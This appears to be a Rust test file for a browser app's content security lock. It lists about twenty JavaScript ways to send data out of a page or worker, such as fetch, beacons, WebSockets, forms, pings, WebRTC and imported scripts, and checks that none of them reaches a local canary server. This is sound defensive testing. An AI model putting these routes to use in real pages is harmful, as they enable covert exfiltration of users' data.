//! What a hostile script could try to carry text away, from the page and from a worker: nothing may arrive anywhere.
//!
//! Only what servers heard is judged. What a browser returns proves nothing: `sendBeacon` says true when it is blocked.

use std::time::Duration;

use serde_json::{Value, json};

use crate::browser::{Browser, in_browser};
use crate::canary::Canary;
use crate::site::serve;

/// The ways out of a page. Each gets `host`, such as `127.0.0.1:1234`, and `path`, such as `/a/b/?leak=page`. Those that
/// tell their outcome give `true` when they got through.
const PAGE_ROUTES: &[(&str, &str)] = &[
    ("fetch", "await fetch(http).then(() => true)"),
    (
        "fetch without cors",
        "await fetch(http, { mode: 'no-cors' }).then(() => true)",
    ),
    (
        "fetch keepalive",
        "await fetch(http, { method: 'POST', body: 'x', keepalive: true }).then(() => true)",
    ),
    (
        "request",
        "await new Promise((done, fail) => { const r = new XMLHttpRequest(); r.open('GET', http); r.onload = () => done(true); r.onerror = fail; r.send(); })",
    ),
    (
        "socket",
        "await new Promise((done, fail) => { const s = new WebSocket(ws); s.onopen = () => done(true); s.onerror = fail; })",
    ),
    (
        "event source",
        "await new Promise((done, fail) => { const s = new EventSource(http); s.onopen = () => done(true); s.onerror = () => { s.close(); fail(); }; })",
    ),
    ("beacon", "navigator.sendBeacon(http, 'x')"),
    (
        "image",
        "await new Promise((done, fail) => { const i = new Image(); i.onload = () => done(true); i.onerror = fail; i.src = http; })",
    ),
    (
        "stylesheet",
        "await load('link', { rel: 'stylesheet', href: http })",
    ),
    (
        "prefetch",
        "await load('link', { rel: 'prefetch', href: http })",
    ),
    (
        "preload",
        "await load('link', { rel: 'preload', as: 'fetch', href: http })",
    ),
    ("script", "await load('script', { src: http })"),
    ("frame", "await load('iframe', { src: http })"),
    ("object", "await load('object', { data: http })"),
    ("video", "await load('video', { src: http })"),
    (
        "font",
        "await new FontFace('x', `url(${http})`).load().then(() => true)",
    ),
    ("module", "await import(http).then(() => true)"),
    (
        "background",
        "document.body.style.backgroundImage = `url(${http})`;",
    ),
    (
        "form",
        "const f = document.createElement('form'); f.action = http; f.method = 'post'; f.target = 'out'; document.body.append(f); f.submit();",
    ),
    (
        "ping",
        "const a = document.createElement('a'); a.href = '#x'; a.ping = http; document.body.append(a); a.click();",
    ),
    (
        "peer connection",
        "const p = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer());",
    ),
    (
        "transport",
        "await new WebTransport(http.replace('http:', 'https:')).ready.then(() => true)",
    ),
];

/// The ways out of a worker.
const WORKER_ROUTES: &[(&str, &str)] = &[
    ("fetch", "await fetch(http).then(() => true)"),
    (
        "fetch without cors",
        "await fetch(http, { mode: 'no-cors' }).then(() => true)",
    ),
    (
        "request",
        "const r = new XMLHttpRequest(); r.open('GET', http, false); r.send(); return true",
    ),
    (
        "socket",
        "await new Promise((done, fail) => { const s = new WebSocket(ws); s.onopen = () => done(true); s.onerror = fail; })",
    ),
    (
        "event source",
        "await new Promise((done, fail) => { const s = new EventSource(http); s.onopen = () => done(true); s.onerror = () => { s.close(); fail(); }; })",
    ),
    ("script", "importScripts(http); return true"),
    ("module", "await import(http).then(() => true)"),
    ("worker", "new Worker(http); return true"),
    (
        "transport",
        "await new WebTransport(http.replace('http:', 'https:')).ready.then(() => true)",
    ),
];

/// An async function that tries every route to an address, and gives the names of those that say they got through.
fn attempt(routes: &[(&str, &str)]) -> String {
    let routes: Vec<String> = routes
        .iter()
        .map(|(name, code)| {
            format!(
                "[{}, async (host, http, ws, load) => {{ {} }}]",
                json!(name),
                body(code)
            )
        })
        .collect();
    format!(
        "async (host, path) => {{
            const http = `http://${{host}}${{path}}`, ws = `ws://${{host}}${{path}}`;
            const load = (kind, fields) => new Promise((done, fail) => {{
                const element = Object.assign(document.createElement(kind), fields);
                element.onload = () => done(kind !== 'iframe');
                element.onerror = fail;
                document.body.append(element);
            }});
            const patience = () => new Promise((done) => setTimeout(() => done(false), 1500));
            const open = await Promise.all([{}].map(([name, route]) =>
                Promise.race([route(host, http, ws, load), patience()])
                    .then((through) => (through === true ? name : null), () => null)));
            return open.filter(Boolean);
        }}",
        routes.join(",\n")
    )
}

/// An expression becomes the function's value; statements stay as they are.
fn body(code: &str) -> String {
    if code.contains(';') && !code.starts_with("await ") {
        code.to_owned()
    } else {
        format!("return {code}")
    }
}

/// A worker that tries the routes when it is told an address.
async fn arm_workers(browser: &Browser) {
    let code = format!(
        "self.addEventListener('message', async (event) => {{
             if (!event.data.attempt) return;
             event.stopImmediatePropagation();
             const attempt = {};
             self.postMessage({{ open: await attempt(...event.data.attempt) }});
         }});",
        attempt(WORKER_ROUTES)
    );
    browser.before_every_worker(&code).await;
}

/// What the page's routes say.
async fn attempt_from_page(browser: &Browser, host: &str, path: &str) -> Value {
    let expression = format!(
        "({})({}, {})",
        attempt(PAGE_ROUTES),
        json!(host),
        json!(path)
    );
    browser.evaluate(&expression).await
}

/// What the routes of a worker of the app say.
async fn attempt_from_worker(browser: &Browser, host: &str, path: &str) -> Value {
    let expression = format!(
        "cijing.startWorker().then((worker) => new Promise((done) => {{
             worker.addEventListener('message', (event) => {{ if (event.data.open) done(event.data.open); }});
             worker.postMessage({{ attempt: {} }});
         }}))",
        json!([host, path])
    );
    browser.evaluate(&expression).await
}

#[test]
fn nothing_leaves_for_another_machine() {
    in_browser(async |browser| {
        let server = serve();
        let canary = Canary::start();
        arm_workers(browser).await;
        browser.open_app(&server.url()).await;
        // `sendBeacon` says true although it is blocked; the canary knows better.
        let page = attempt_from_page(browser, &canary.host(), "/?leak=page").await;
        assert_eq!(page, json!(["beacon"]), "ways out of the page");
        let worker = attempt_from_worker(browser, &canary.host(), "/?leak=worker").await;
        assert_eq!(worker, json!([]), "ways out of the worker");
        tokio::time::sleep(Duration::from_millis(500)).await;
        assert_eq!(canary.visits(), 0, "visits at the stranger's server");
    });
}

#[test]
fn nothing_reaches_the_own_server_either() {
    in_browser(async |browser| {
        let server = serve();
        arm_workers(browser).await;
        browser.open_app(&server.url()).await;
        // The lock shuts connections; the service worker, which is there from the first visit on, shuts the rest.
        browser.wait_for_service_worker().await;
        let host = format!("127.0.0.1:{}", server.port());
        let page = attempt_from_page(browser, &host, "/a/b/?leak=page").await;
        assert_eq!(page, json!(["beacon"]), "ways out of the page");
        let worker = attempt_from_worker(browser, &host, "/a/b/?leak=worker").await;
        assert_eq!(worker, json!([]), "ways out of the worker");
        tokio::time::sleep(Duration::from_millis(500)).await;
        let mut leaks = server.log();
        leaks.retain(|line| line.contains("leak"));
        assert_eq!(leaks, [""; 0], "requests at the app's own server");
    });
}

/// The routes are real: from a page without a policy they reach the canary. Without this, a broken route would pass.
#[test]
fn the_ways_out_work_where_nothing_shuts_them() {
    in_browser(async |browser| {
        let folder = tempfile::TempDir::new().unwrap();
        std::fs::write(folder.path().join("index.html"), "<!DOCTYPE html><body>").unwrap();
        let server = crate::server::Server::start(folder.path(), "/", 0).unwrap();
        let canary = Canary::start();
        browser.open(&server.url()).await;
        // QUIC, on which the transport stands, is switched off in the tests' browser.
        for route in PAGE_ROUTES.iter().filter(|route| route.0 != "transport") {
            let name = route.0;
            let before = canary.visits();
            let one = attempt(std::slice::from_ref(route));
            let expression = format!("({one})({}, '/')", json!(canary.host()));
            browser.evaluate(&expression).await;
            // Frames and forms take a while, and a ping is sent when the page is idle.
            for _ in 0..20 {
                if canary.visits() > before {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
            assert!(canary.visits() > before, "{name} does not reach the canary");
        }
    });
}
